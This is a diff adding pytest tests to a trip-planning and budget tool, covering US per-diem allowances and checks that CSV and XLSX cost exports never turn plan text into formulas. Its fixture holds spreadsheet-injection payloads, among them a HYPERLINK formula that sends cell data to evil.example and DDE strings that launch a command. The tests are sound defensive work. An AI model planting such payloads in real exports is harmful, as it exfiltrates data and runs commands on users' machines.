@@ -11,6 +11,7 @@ import csv
 import io
 import json
 import os
+import re
 from datetime import date
 from decimal import Decimal
 from pathlib import Path
@@ -587,3 +588,184 @@ def test_costs_out_replaces_its_own_file_but_never_someone_elses(tmp_path: Path,
     refused = run("costs", "--format", fmt, "--out", str(foreign))
     assert refused.exit_code == 2
     assert foreign.read_bytes() == b"Budget 2018, by hand\n"
+
+
+US_PLAN: dict[str, Any] = {
+    "version": 1,
+    "programme": {"name": "Visit", "year": 2018, "organiser": "Town", "language": "en"},
+    "communities": [
+        {"id": "home", "name": "Home", "country": "US", "timezone": "America/Denver"},
+        {"id": "testville", "name": "Testville", "country": "US", "timezone": "America/Chicago"},
+    ],
+    "delegates": [{"id": "sam", "name": "Sam", "home": "home"}],
+    "delegations": [
+        {
+            "id": "us",
+            "name": "US",
+            "home": "home",
+            "members": ["sam"],
+            "allowances": {"rules": "us-federal"},
+        }
+    ],
+    "trips": [
+        {
+            "id": "visit",
+            "title": "Visit",
+            "kind": "study_tour",
+            "delegations": ["us"],
+            "hosts": ["testville"],
+            "first_day": "2018-05-07",
+            "last_day": "2018-05-09",
+            "stays": [
+                {
+                    "community": "testville",
+                    "check_in": "2018-05-07",
+                    "check_out": "2018-05-09",
+                    "breakfast": True,
+                }
+            ],
+            "legs": [
+                {
+                    "id": "out",
+                    "mode": "car",
+                    "from": "home",
+                    "to": "testville",
+                    "departs": "2018-05-07T08:00",
+                    "arrives": "2018-05-07T12:00",
+                },
+                {
+                    "id": "back",
+                    "mode": "car",
+                    "from": "testville",
+                    "to": "home",
+                    "departs": "2018-05-09T14:00",
+                    "arrives": "2018-05-09T17:00",
+                },
+            ],
+            "activities": [
+                {
+                    "id": "dinner",
+                    "title": "Dinner with the hosts",
+                    "kind": "meal",
+                    "community": "testville",
+                    "start": "2018-05-08T18:00",
+                    "end": "2018-05-08T20:00",
+                    "provides_meal": "dinner",
+                }
+            ],
+        }
+    ],
+    "budget": {
+        "allowance_rates": [
+            {
+                "rules": "us-federal",
+                "country": "US",
+                "place": "testville",
+                "year": 2018,
+                "currency": "USD",
+                "full": "74",
+                "breakfast": "18",
+                "lunch": "20",
+                "dinner": "31",
+                "incidentals": "5",
+                "source": "GSA M&IE breakdown, CONUS tier $74 (gsa.gov/mie); a fictitious place",
+            }
+        ]
+    },
+}
+
+
+def test_us_federal_from_the_itinerary_75_percent_ends_dinner_deducted_hotel_breakfast_not() -> (
+    None
+):
+    """41 CFR 301-11.101 (75 % first and last day), 301-11.18 (the dinner's $31), 301-11.17
+    (the hotel's breakfast deducts nothing)."""
+    assert allowances_of(US_PLAN) == {
+        date(2018, 5, 7): D("55.50"),
+        date(2018, 5, 8): D("43"),
+        date(2018, 5, 9): D("55.50"),
+    }
+
+
+def test_a_plan_without_costs_says_how_to_add_them(tmp_path: Path) -> None:
+    data = copy.deepcopy(PLAN)
+    del data["budget"]
+    del data["delegations"][0]["allowances"]
+    del data["trips"][0]["legs"][0]["cost"]
+    path = tmp_path / "plan.json"
+    path.write_text(json.dumps(data), encoding="utf-8")
+    result = run("costs", str(path))
+    assert result.exit_code == 0, result.output
+    assert "No costs and no daily allowances in this selection" in result.stdout
+
+
+# -- spreadsheets: plan text never becomes a formula ------------------------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+    "funder": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "place": "-2+3+cmd|' /C calc'!A0",
+    "trip": "+Paris",
+    "spaced": "  =1+1",
+    "tab": "\t=1+1",
+    "wide": "\uff1d1+1",
+}
+
+
+def _formula_plan() -> dict[str, Any]:
+    data = copy.deepcopy(PLAN)
+    trip = data["trips"][0]
+    trip["title"] = FORMULAS["trip"]
+    meeting, other = trip["activities"]
+    meeting["title"] = FORMULAS["title"]
+    meeting["cost"] = {"amount": "10", "currency": "EUR", "per": "person"}
+    other["title"] = FORMULAS["spaced"]
+    other["cost"] = {"amount": "5", "currency": "EUR", "per": "item"}
+    trip["legs"][1]["cost"] = {"amount": "7", "currency": "EUR", "per": "item"}
+    trip["legs"][1]["carrier"] = FORMULAS["tab"]
+    data["budget"]["funders"][0]["name"] = FORMULAS["funder"]
+    data["communities"][1]["name"] = FORMULAS["place"]
+    data["budget"]["allowance_rates"][0]["place"] = FORMULAS["place"]
+    data["delegates"][0]["name"] = FORMULAS["wide"]
+    return data
+
+
+@pytest.mark.parametrize("lang", ["en", "de"])
+def test_costs_csv_cells_never_start_a_formula(write_plan: Any, lang: str) -> None:
+    path = write_plan(_formula_plan())
+    result = run("costs", path, "--format", "csv", "--lang", lang)
+    assert result.exit_code == 0, result.output
+    rows = list(
+        csv.reader(
+            io.StringIO(result.stdout_bytes.decode("utf-8-sig")),
+            delimiter=";" if lang == "de" else ",",
+        )
+    )
+    cells = [cell for row in rows for cell in row]
+    assert "'" + FORMULAS["title"] in cells
+    assert "'" + FORMULAS["funder"] in cells
+    assert "'" + FORMULAS["place"] in cells
+    for cell in cells:
+        assert not cell.lstrip(" \ufffd").startswith(("=", "+", "@", "\uff1d", "\t")), cell
+        if cell.startswith("-"):
+            assert re.fullmatch(r"-\d+[.,]\d\d", cell), cell  # only our own negative amounts
+
+
+def test_costs_xlsx_text_is_never_a_formula(write_plan: Any, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    path = write_plan(_formula_plan())
+    target = tmp_path / "costs.xlsx"
+    result = run("costs", path, "--format", "xlsx", "--out", str(target), "--lang", "en")
+    assert result.exit_code == 0, result.output
+    book = load_workbook(target)
+    texts = []
+    for sheet in book:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+                    if cell.value.lstrip(" \ufffd").startswith(("=", "+", "-", "@", "\uff1d")):
+                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
+    assert FORMULAS["title"] in texts and FORMULAS["funder"] in texts
